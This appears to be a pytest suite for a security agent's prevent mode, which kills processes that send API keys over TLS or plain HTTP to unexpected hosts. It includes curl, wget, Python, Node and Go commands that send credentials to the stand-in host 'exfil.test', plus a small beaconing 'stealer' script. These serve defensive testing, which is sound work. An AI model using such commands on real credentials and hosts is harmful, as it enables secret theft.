"""Prevent mode (issue 16): a TLS write carrying a credential to a destination not expected for
it is stopped in the write function's uprobe, before the library encrypts a byte; the agent
matches the bytes and kills the sender. The loopback server counts every plaintext byte it
decrypted, so "no byte of that request" is measured, not assumed. Calls to the key's own provider
and bulk uploads go through; an agent killed during a hold leaves nothing stopped.
"""

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from kharness import env
from kharness.agent import Agent
from kharness.servers import sha256
from test_go_tls import go_clients  # noqa: F401 (fixture: the Go client, built once)
from test_tls_stacks import _with_hosts

ALERT_TIMEOUT = 5.0
SETTLE = 1.0  # after the client is gone, for bytes still in flight to reach the server


def _wait_counter(agent, name, at_least=1, timeout=3.0) -> int:
    """--stats-file is rewritten every second: wait for `name` to reach `at_least`."""
    deadline = time.monotonic() + timeout
    while agent.counter(name) < at_least and time.monotonic() < deadline:
        time.sleep(0.1)
    return agent.counter(name)


def _killed_alert(agent, provider, comm):
    def predicate(alert):
        return ((alert.get("secret") or {}).get("provider") == provider and
                (alert.get("process") or {}).get("comm") == comm)
    return agent.wait_for_alerts(predicate, timeout=ALERT_TIMEOUT)


def _assert_killed(agent, result, server, provider, comm, host="exfil.test"):
    assert result.rc == -signal.SIGKILL, f"{comm} exited {result.rc}, want SIGKILL\n" \
                                         f"{agent.diagnostics()}"
    alerts = _killed_alert(agent, provider, comm)
    assert alerts, f"no {provider} alert for {comm}\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["action"] == "killed", alert
    assert alert["destination"]["host"] == host, alert["destination"]
    assert alert["secret"]["redacted"] and alert["secret"]["fingerprint"]
    time.sleep(SETTLE)
    assert server.requests == [], "the server received the request"
    assert server.plaintext_bytes == 0, \
        f"the server decrypted {server.plaintext_bytes} bytes of the killed request"
    assert _wait_counter(agent, "prevent_kills") >= 1


@pytest.fixture
def prevent_agent(start_agent):
    return start_agent(extra_args=["--mode", "prevent"])


def _curl_key(curl, server, name, key, scratch, extra=()):
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    return curl.https(server, name, "/v1/chat/completions") + \
        ["-H", f"@{headers}", "--data-binary", '{"model":"x"}', *extra]


def test_curl_sending_a_key_to_an_unexpected_host_is_killed_before_a_byte_leaves(
        prevent_agent, clients, https_server, curl, registry, scratch):
    key = registry.new("openai")
    result = clients.run(_curl_key(curl, https_server, "exfil.test", key, scratch), check=False)
    _assert_killed(prevent_agent, result, https_server, "openai", "curl")
    assert "killed pid" in prevent_agent.log_text()


def test_curl_calling_the_keys_own_provider_goes_through(
        prevent_agent, clients, https_server, curl, registry, scratch):
    key = registry.new("openai")
    clients.run(_curl_key(curl, https_server, "api.openai.com", key, scratch))
    [req] = https_server.wait_for_requests(1)
    assert req.header_digests.get("authorization") == sha256(f"Bearer {key}")
    time.sleep(SETTLE)
    assert prevent_agent.alerts() == []
    # The write was held (the anchor is there) and released once judged.
    assert _wait_counter(prevent_agent, "prevent_holds") >= 1
    assert _wait_counter(prevent_agent, "prevent_releases") >= 1
    assert prevent_agent.counter("prevent_kills") == 0


def test_curl_over_http2_with_a_huffman_coded_header_is_killed(
        prevent_agent, clients, h2_server, curl, pki, registry, scratch):
    # nghttp2 Huffman-codes the Authorization value: no raw byte of the key is in the frame.
    key = registry.new("openai")
    headers = scratch / "headers"
    headers.write_text(f"Authorization: Bearer {key}\n")
    argv = ["curl", "-sS", "--fail", "--noproxy", "*", "--max-time", "15", "--http2",
            "--cacert", str(pki.ca), "--resolve", f"exfil.test:{h2_server}:127.0.0.1",
            f"https://exfil.test:{h2_server}/index.html", "-H", f"@{headers}",
            "--data-binary", '{"model":"x"}']
    result = clients.run(argv, check=False)
    assert result.rc == -signal.SIGKILL, f"curl exited {result.rc}\n{prevent_agent.diagnostics()}"
    alerts = _killed_alert(prevent_agent, "openai", "curl")
    assert alerts and alerts[0]["action"] == "killed", prevent_agent.diagnostics()


def _python_urllib(pki, server, scratch, headers, body) -> list[str]:
    (scratch / "body.json").write_text(json.dumps(body))
    (scratch / "headers.json").write_text(json.dumps(headers))
    return [env.PYTHON, str(env.CLIENTS / "https_client.py"), "--mode", "urllib",
            "--name", "exfil.test", "--port", str(server.port), "--cafile", str(pki.ca),
            "--path", "/v1/messages", "--headers-file", str(scratch / "headers.json"),
            "--body-file", str(scratch / "body.json")]


def test_python_urllib_with_the_key_in_a_header_is_killed(
        prevent_agent, clients, https_server, pki, registry, scratch):
    # As the provider SDKs send it: x-api-key in the request head, the first write.
    key = registry.new("anthropic")
    result = clients.run(_python_urllib(pki, https_server, scratch, {"x-api-key": key},
                                        {"model": "x"}), check=False)
    _assert_killed(prevent_agent, result, https_server, "anthropic", "python3")


def test_python_urllib_with_the_key_in_the_body_is_killed_before_the_body_leaves(
        prevent_agent, clients, https_server, pki, registry, scratch):
    # http.client writes the head, then the body: the head (no key in it) has left when the
    # body's write is held. Not one byte of the body reaches the server.
    key = registry.new("anthropic")
    result = clients.run(_python_urllib(pki, https_server, scratch, {}, {"api_key": key}),
                         check=False)
    assert result.rc == -signal.SIGKILL, prevent_agent.diagnostics()
    alerts = _killed_alert(prevent_agent, "anthropic", "python3")
    assert alerts and alerts[0]["action"] == "killed", prevent_agent.diagnostics()
    time.sleep(SETTLE)
    # The server read the head, then waited for Content-Length bytes and got none.
    assert [r.body_len for r in https_server.requests] in ([], [0]), "the body reached the server"


def test_wget_over_gnutls_is_killed(prevent_agent, clients, https_server, pki, registry, scratch):
    # wget writes the head and the body apart: the key in the head is the first write.
    key = registry.new("anthropic")
    body = scratch / "wget-body.json"
    body.write_text(json.dumps({"model": "x"}))
    (scratch / "wgetrc").write_text(f"header = x-api-key: {key}\n")
    result = clients.run(_with_hosts(scratch, "exfil.test", [
        "wget", "-q", "-O", "/dev/null", "--no-proxy", "--tries=1", "--timeout=15",
        f"--config={scratch / 'wgetrc'}",
        f"--ca-certificate={pki.ca}", f"--post-file={body}",
        https_server.url("exfil.test", "/v1/messages")]), check=False)
    _assert_killed(prevent_agent, result, https_server, "anthropic", "wget")


def test_node_fetch_is_killed(prevent_agent, clients, https_server, pki, registry, scratch):
    node = Path("/usr/bin/node")
    if not node.exists():
        pytest.fail("no /usr/bin/node: the node kill case cannot run")
    key = registry.new("openai")
    headers, body = scratch / "node-headers.json", scratch / "node-body.json"
    headers.write_text(json.dumps({"Authorization": f"Bearer {key}",
                                   "Content-Type": "application/json"}))
    body.write_text(json.dumps({"model": "x"}))
    result = clients.run([str(node), str(env.CLIENTS / "node_fetch.js"), "exfil.test",
                          str(https_server.port), "/v1/chat/completions", str(headers),
                          str(body)], check=False, env={"NODE_EXTRA_CA_CERTS": str(pki.ca)})
    _assert_killed(prevent_agent, result, https_server, "openai", "node")


def test_a_legitimate_bulk_upload_completes(prevent_agent, clients, https_server, curl, registry,
                                            scratch):
    key = registry.new("openai")
    upload = scratch / "upload.bin"
    upload.write_bytes(os.urandom(8 << 20))
    clients.run(_curl_key(curl, https_server, "api.openai.com", key, scratch,
                          extra=["--data-binary", f"@{upload}"]), timeout=60)
    [req] = https_server.wait_for_requests(1)
    assert req.body_len > 8 << 20  # '{"model":"x"}' and the upload, joined by curl
    time.sleep(SETTLE)
    assert prevent_agent.alerts() == []
    assert prevent_agent.counter("prevent_kills") == 0
    assert prevent_agent.counter("prevent_released_on_timeout") == 0


def test_an_allow_rule_exempts_a_known_tool(start_agent, clients, https_server, curl, registry,
                                            scratch):
    config = scratch / "agent.yaml"
    config.write_text("mode: prevent\nprevent:\n  allow:\n    - process: curl\n"
                      "      destination: exfil.test\n")
    agent = start_agent(extra_args=["--config", str(config)])
    key = registry.new("openai")
    clients.run(_curl_key(curl, https_server, "exfil.test", key, scratch))
    assert len(https_server.wait_for_requests(1)) == 1
    alerts = _killed_alert(agent, "openai", "curl")
    assert alerts and alerts[0]["action"] == "observed", agent.diagnostics()
    assert _wait_counter(agent, "prevent_exempted") == 1
    assert "an allow rule exempts it" in agent.log_text()


def test_sighup_switches_between_detect_and_prevent(start_agent, clients, https_server, curl,
                                                    registry, scratch):
    config = scratch / "agent.yaml"
    config.write_text("mode: detect\n")
    agent = start_agent(extra_args=["--config", str(config)])
    first = clients.run(_curl_key(curl, https_server, "exfil.test", registry.new("openai"),
                                  scratch))
    assert first.rc == 0 and len(https_server.wait_for_requests(1)) == 1

    config.write_text("mode: prevent\n")
    agent.signal(signal.SIGHUP)
    assert agent.wait_for_log("reloaded rules"), agent.diagnostics()
    assert agent.wait_for_log("prevent guardian pid"), agent.diagnostics()
    second = clients.run(_curl_key(curl, https_server, "exfil.test", registry.new("openai"),
                                   scratch), check=False)
    assert second.rc == -signal.SIGKILL, agent.diagnostics()
    actions = sorted(a["action"] for a in agent.wait_for_alerts(
        lambda a: (a.get("secret") or {}).get("provider") == "openai", timeout=ALERT_TIMEOUT))
    assert actions == ["killed", "observed"], actions


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return "gone"


def test_an_agent_killed_during_a_held_write_leaves_no_process_stopped(
        agent_binary, cgroup, registry, scratch, clients, https_server, curl):
    agent = Agent(agent_binary, scratch / "killed-agent", [str(cgroup)], registry, None,
                  ["--mode", "prevent"])
    agent.dir.mkdir()
    agent.start()
    try:
        assert agent.wait_for_log("prevent guardian pid"), agent.diagnostics()
        # The agent cannot judge while stopped: the kernel still holds the write.
        agent.signal(signal.SIGSTOP)
        proc = clients.start(_curl_key(curl, https_server, "exfil.test", registry.new("openai"),
                                       scratch))
        deadline = time.monotonic() + 5
        while _state(proc.pid) != "T" and time.monotonic() < deadline:
            time.sleep(0.005)
        assert _state(proc.pid) == "T", "curl was never held"
        agent.proc.kill()
        agent.proc.wait()
        out, err = proc.communicate(timeout=20)
        clients._record(["curl"], out, err)
        # Released, not killed: the agent that would have judged it is gone.
        assert proc.returncode == 0, err.decode(errors="replace")[-500:]
        assert len(https_server.wait_for_requests(1)) == 1
        leftover = [p for p in cgroup.pids() if _state(p) == "T"]
        assert leftover == [], f"stopped processes left in the test cgroup: {leftover}"
    finally:
        if agent.running():
            agent.proc.kill()
            agent.proc.wait()


def test_go_crypto_tls_over_http2_is_killed(prevent_agent, clients, go_clients, h2_server, pki,
                                            registry, scratch):
    # Go Huffman-codes the header and writes the HTTP/2 frames through crypto/tls.(*Conn).Write.
    binary = go_clients["goexfil"]
    key = registry.new("openai")
    go_file = scratch / "go-release"
    proc = clients.start([str(binary), str(pki.ca), "exfil.test", str(h2_server), str(go_file)],
                         env={"CS_TEST_KEY": key})
    hooked = prevent_agent.wait_for_log(str(binary), timeout=5.0)
    go_file.touch()
    out, err = proc.communicate(timeout=30)
    clients._record([str(binary)], out, err)
    assert hooked, f"the agent never hooked {binary}\n{prevent_agent.diagnostics()}"
    assert proc.returncode == -signal.SIGKILL, \
        f"Go client exited {proc.returncode}\n{prevent_agent.diagnostics()}"
    alerts = _killed_alert(prevent_agent, "openai", binary.name[:15])
    assert alerts and alerts[0]["action"] == "killed", prevent_agent.diagnostics()
    assert alerts[0]["destination"]["host"] == "exfil.test"


# A plain-HTTP client that sends a key, then goes on sending: one request a tenth of a second
# for up to 5 s on keep-alive, as a stealer beaconing would.
_PLAIN_BEACON = r"""
import socket, sys, time
key, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection(("127.0.0.1", port))
def request(extra):
    s.sendall(("POST /collect HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: 2\r\n" + extra +
               "\r\n{}").encode())
    s.recv(65536)
request("Authorization: Bearer " + key + "\r\n")
for _ in range(50):
    time.sleep(0.1)
    request("")
"""


def test_plain_http_sender_is_killed_after_its_write_and_sends_nothing_more(
        prevent_agent, clients, http_server, registry, scratch):
    # A write() on a plain socket cannot be held: the request with the key leaves, and the
    # sender is killed as soon as it is matched, so its later requests never come.
    key = registry.new("openai")
    script = scratch / "beacon.py"
    script.write_text(_PLAIN_BEACON)
    started = time.monotonic()
    result = clients.run([env.PYTHON, str(script), key, str(http_server.port)], check=False)
    elapsed = time.monotonic() - started
    assert result.rc == -signal.SIGKILL, f"exited {result.rc}\n{prevent_agent.diagnostics()}"
    assert elapsed < 3.0, f"killed only after {elapsed:.1f} s"
    alerts = _killed_alert(prevent_agent, "openai", "python3")
    assert alerts, prevent_agent.diagnostics()
    assert alerts[0]["action"] == "killed-after-send", alerts[0]
    # The request with the key, and at most the beacons sent while the match was made.
    assert 1 <= len(http_server.requests) <= 5, len(http_server.requests)
    assert _wait_counter(prevent_agent, "prevent_kills_after_send") >= 1
    assert "after its plain write" in prevent_agent.log_text()
